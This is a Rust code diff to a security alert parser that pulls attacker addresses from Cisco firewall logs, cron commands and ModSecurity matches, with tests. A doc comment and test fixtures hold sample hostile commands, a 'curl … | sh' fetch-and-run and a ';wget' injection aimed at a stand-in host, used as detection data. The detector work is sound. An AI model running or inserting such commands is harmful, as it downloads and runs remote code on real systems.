@@ -48,12 +48,21 @@ pub(crate) fn client_at_mark(alert: &Alert) -> Option<IpAddr> {
             .flatten()
             .any(|name| name.starts_with("syscheck") || name == "rootcheck");
     let line = alert.full_log().filter(|line| !is_of_files && !is_json(line))?;
-    client_in(line.trim_end())
+    let line = line.trim_end();
+    // That decoder found the mark where the device writes it.
+    let is_of_cisco = alert.decoder().is_some_and(|decoder| decoder.starts_with("cisco"));
+    let of_cisco = is_of_cisco.then(|| client_of_cisco(line)).flatten();
+    of_cisco.or_else(|| client_in(line))
 }
 
 fn client_in(line: &str) -> Option<IpAddr> {
-    const READERS: [fn(&str) -> Option<&str>; 9] = [mysql, postgresql, exim, fail2ban, esxi, fortigate, asa, ios, ftd];
+    const READERS: [fn(&str) -> Option<&str>; 7] = [mysql, postgresql, exim, fail2ban, esxi, fortigate, asa];
     let client = READERS.iter().find_map(|read| read(line))?;
+    address::parse(client).map(|(ip, _)| ip)
+}
+
+fn client_of_cisco(line: &str) -> Option<IpAddr> {
+    let client = [asa_scan, ios, ftd].iter().find_map(|read| read(line))?;
     address::parse(client).map(|(ip, _)| ip)
 }
 
@@ -131,15 +140,17 @@ fn fortigate(line: &str) -> Option<&str> {
     is_sound.then_some(client.split_once(')')?.0)
 }
 
-/// `%ASA-6-113005: AAA user authentication Rejected : … : user = bob : user IP = 203.0.113.9`, which ends the line, and
-/// `%ASA-4-733101: Host 203.0.113.9 is attacking. …`.
+/// `%ASA-6-113005: AAA user authentication Rejected : … : user = bob : user IP = 203.0.113.9`, which ends the line.
 fn asa(line: &str) -> Option<&str> {
-    if let Some((_, host)) = line.split_once("%ASA-4-733101: Host ") {
-        let (host, does) = host.split_once(' ')?;
-        return does.starts_with("is attacking").then_some(host);
-    }
     let (before, client) = line.rsplit_once(" : user IP = ")?;
     before.contains("%ASA-").then_some(client)
+}
+
+/// `%ASA-4-733101: Host 203.0.113.9 is attacking. …`.
+fn asa_scan(line: &str) -> Option<&str> {
+    let (_, told) = line.split_once("%ASA-")?;
+    let (host, does) = told.strip_prefix("4-733101: Host ")?.split_once(' ')?;
+    does.starts_with("is attacking").then_some(host)
 }
 
 /// `%SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: eve] [Source: 203.0.113.9] [localport: 22] …`: what the client chose stands before it.
@@ -151,46 +162,74 @@ fn ios(line: &str) -> Option<&str> {
 
 /// `%FTD-1-430001: …, SrcIP: 203.0.113.9, DstIP: …`: the ends stand before all that a client may choose.
 fn ftd(line: &str) -> Option<&str> {
-    let (before, client) = line.split_once(" SrcIP: ")?;
+    let (_, told) = line.split_once("%FTD-")?;
+    let (before, client) = told.split_once(" SrcIP: ")?;
     let client = client.split([',', ' ']).next()?;
-    before.contains("%FTD-").then_some(client)
+    (!before.contains('"')).then_some(client)
 }
 
 /// The command that cron ran, as it says itself: `CRON[123]: (root) CMD (curl -s http://evil.example/x | sh)`.
 pub(crate) fn command_of_cron(alert: &Alert) -> Option<&str> {
-    let line = alert.full_log().filter(|line| !is_json(line))?;
+    let program = alert
+        .text_of("predecoder.program_name")
+        .filter(|program| is_cron(program));
+    let line = alert.full_log().filter(|_| program.is_some())?;
     command_in(line.trim_end())
+}
+
+fn is_cron(program: &str) -> bool {
+    ["cron", "crond"].iter().any(|name| name.eq_ignore_ascii_case(program))
 }
 
 fn command_in(line: &str) -> Option<&str> {
     let (head, told) = line.split_once("]: (")?;
     let (program, _number) = head.rsplit_once('[')?;
     let program = program.rsplit([' ', '/']).next()?;
-    let is_cron = ["CRON", "crond", "cron"]
-        .iter()
-        .any(|name| name.eq_ignore_ascii_case(program));
     let (account, command) = told.split_once(") CMD (")?;
     let command = command.strip_suffix(')')?.trim();
-    let is_sound = is_cron && !head.contains(": ") && !account.contains(char::is_whitespace);
+    let is_sound = is_cron(program) && !head.contains(": ") && !account.contains(char::is_whitespace);
     (is_sound && !command.is_empty()).then_some(command)
 }
 
 /// What `ModSecurity` found in a request that it takes for an attack which makes a server run or fetch something: rules 931 to 934 and 944 of
 /// the core rule set.
 pub(crate) fn matched_by_modsecurity(alert: &Alert) -> Option<&str> {
-    let line = alert.full_log().filter(|line| !is_json(line))?;
-    matched_in(line)
+    matched_in(alert.full_log()?)
 }
 
 fn matched_in(line: &str) -> Option<&str> {
     const KINDS: [&str; 5] = ["931", "932", "933", "934", "944"];
-    let (_, told) = line.split_once(" ModSecurity: ")?;
-    let (_, id) = told.split_once("[id \"")?;
-    let is_attack = KINDS.iter().any(|kind| id.starts_with(kind)) && id.as_bytes().get(6) == Some(&b'"');
-    let (_, data) = told.split_once("[data \"Matched Data: ").filter(|_| is_attack)?;
+    // That there is a whole address in a parameter: where somebody comes back to, mostly.
+    const REDIRECT: &str = "931130";
+    let (head, told) = line.split_once(" ModSecurity: ")?;
+    // What the client sent stands before the fields that the program adds.
+    let (_, id) = told.rsplit_once("[id \"")?;
+    let (id, behind) = id.split_once("\"]")?;
+    let is_attack = id.len() == 6 && id != REDIRECT && KINDS.iter().any(|kind| id.starts_with(kind));
+    let (_, data) = behind
+        .split_once("[data \"Matched Data: ")
+        .filter(|_| is_attack && is_head_of_httpd(head))?;
     // Quotation marks of the request are written as `\x22`.
-    let data = data.split('"').next()?;
-    Some(data.split_once(" found within ").map_or(data, |(data, _)| data))
+    let (data, _) = data.split('"').next()?.split_once(" found within ")?;
+    Some(data)
+}
+
+/// Whether a head is one that the web server writes: groups in brackets, one of them the client's, behind what syslog or nginx puts first.
+fn is_head_of_httpd(head: &str) -> bool {
+    let groups = match head.trim_start() {
+        head if head.starts_with('[') => Some(head),
+        head => head.split_once(": ").map(|(_, groups)| groups),
+    };
+    let Some(mut rest) = groups else { return false };
+    if let Some(numbered) = rest.strip_prefix('*') {
+        rest = numbered.trim_start_matches(|c: char| c.is_ascii_digit()).trim_start();
+    }
+    let mut has_client = false;
+    while let Some((group, behind)) = rest.strip_prefix('[').and_then(|rest| rest.split_once(']')) {
+        has_client |= group.starts_with("client ");
+        rest = behind.trim_start();
+    }
+    has_client && rest.is_empty()
 }
 
 /// Says whether a line is an object, or a list of objects, lists or texts: web servers and kernels begin with `[` too.
@@ -353,14 +392,16 @@ mod tests {
             "%SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: a] [Source: 8.8.8.8] [Source: 203.0.113.9] [localport: 22] [Reason: x]",
             "<113>Jan 20 09:02:17 ftd : %FTD-1-430001: Protocol: tcp, SrcIP: 203.0.113.9, DstIP: 10.1.1.20, URL: SrcIP: 8.8.8.8",
         ] {
-            assert_eq!(client_in(line), Some("203.0.113.9".parse().unwrap()), "{line}");
+            assert_eq!(client_of_cisco(line), Some("203.0.113.9".parse().unwrap()), "{line}");
+            assert_eq!(client_in(line), None, "{line}");
         }
         for line in [
-            "app: %ASA-4-733101: Host eve is attacking",
+            "%ASA-4-733101: Host eve is attacking",
+            "%ASA-6-113005: Rejected : user = x%ASA-4-733101: Host 8.8.8.8 is attacking : user IP = 203.0.113.9",
             "%SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: a] [Source: 8.8.8.8] x",
             "app: SrcIP: 8.8.8.8,",
         ] {
-            assert_eq!(client_in(line), None, "{line}");
+            assert_eq!(client_of_cisco(line), None, "{line}");
         }
     }
 
@@ -385,15 +426,40 @@ mod tests {
 
     #[test]
     fn what_modsecurity_matched_ends_before_where_it_was_found() {
-        let line = |id: &str, data: &str| {
+        const APACHE: &str =
+            "[Tue Jan 20 09:02:17 2026] [security2:error] [pid 1] [client 203.0.113.9:5] [client 203.0.113.9]";
+        const NGINX: &str = "2026/01/20 10:00:00 [error] 7#7: *1 [client 203.0.113.9]";
+        const TOLD: &str =
+            r"Matched Data: ;wget http://evil.example/x found within ARGS:q: 1;wget http://evil.example/x";
+        let line = |head: &str, id: &str, data: &str| {
             format!(
-                r#"[client 203.0.113.9] ModSecurity: Access denied with code 403 (phase 2). [file "/x.conf"] [id "{id}"] [data "{data}"] [uri "/"]"#
+                r#"{head} ModSecurity: Access denied with code 403 (phase 2). [file "/x.conf"] [id "{id}"] [data "{data}"] [uri "/"]"#
             )
         };
-        let told = r"Matched Data: ;wget http://evil.example/x found within ARGS:q: 1;wget http://evil.example/x";
-        let found = |id| matched_in(&line(id, told)).map(str::to_owned);
-        assert_eq!(found("932100").as_deref(), Some(";wget http://evil.example/x"));
-        assert_eq!((found("920350"), found("93210"), found("9321000")), (None, None, None));
-        assert_eq!(matched_in(&line("932100", "8.8.8.8")), None);
+        for head in [APACHE, NGINX, &format!("Jan 20 web httpd[7]: {APACHE}")] {
+            assert_eq!(
+                matched_in(&line(head, "932100", TOLD)),
+                Some(";wget http://evil.example/x"),
+                "{head}"
+            );
+        }
+        for (head, id, data) in [
+            (APACHE, "920350", TOLD),
+            (APACHE, "931130", TOLD),
+            (APACHE, "93210", TOLD),
+            (APACHE, "9321000", TOLD),
+            (APACHE, "932100", "8.8.8.8"),
+            (APACHE, "932100", "Matched Data: 8.8.8.8"),
+            ("sshd[1]: Invalid user", "932100", TOLD),
+            ("sshd[1]: [client 203.0.113.9] x", "932100", TOLD),
+            ("", "932100", TOLD),
+        ] {
+            let line = line(head, id, data);
+            assert_eq!(matched_in(&line), None, "{line}");
+        }
+        // What the client sent names another rule than the program.
+        let sent =
+            line(APACHE, "920350", "x").replace("(phase 2).", &format!(r#"(Value: `[id "932100"] [data "{TOLD}"]')"#));
+        assert_eq!(matched_in(&sent), None);
     }
 }
